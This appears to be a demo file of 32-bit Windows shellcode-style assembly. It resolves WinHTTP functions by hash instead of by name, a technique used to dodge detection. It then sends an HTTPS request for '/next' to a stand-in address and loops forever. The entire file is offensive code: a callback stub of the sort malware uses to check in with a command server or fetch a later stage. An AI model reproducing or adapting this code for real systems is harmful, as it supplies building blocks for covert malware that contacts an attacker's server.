; Windows, 32 bit: the same with winhttp, whose texts are UTF-16.
bits 32
%include "demo_resolve.inc"
%include "windows_calls.inc"
HASH open, 'WinHttpOpen'
HASH connect_to, 'WinHttpConnect'
HASH request, 'WinHttpOpenRequest'
HASH send, 'WinHttpSendRequest'
        RESOLVER
        LOAD library
        mov esi, eax
        xor edi, edi
        push edi
        push edi
        push edi
        push edi
        lea eax, AT(agent)
        push eax
        CALL_API esi, open
        push edi
        push dword 443
        lea ecx, AT(server)
        push ecx
        push eax
        CALL_API esi, connect_to
        push dword 0x00800000
        push edi
        push edi
        push edi
        lea ecx, AT(object)
        push ecx
        push edi
        push eax
        CALL_API esi, request
        push edi
        push edi
        push edi
        push edi
        push edi
        push edi
        push eax
        CALL_API esi, send
        jmp short $
library: db 'winhttp', 0
agent:  db 'K', 0, 'e', 0, 'n', 0, 'b', 0, 0, 0
server: db '1', 0, '9', 0, '2', 0, '.', 0, '0', 0, '.', 0, '2', 0, '.', 0, '7', 0, '9', 0, 0, 0
object: db '/', 0, 'n', 0, 'e', 0, 'x', 0, 't', 0, 0, 0
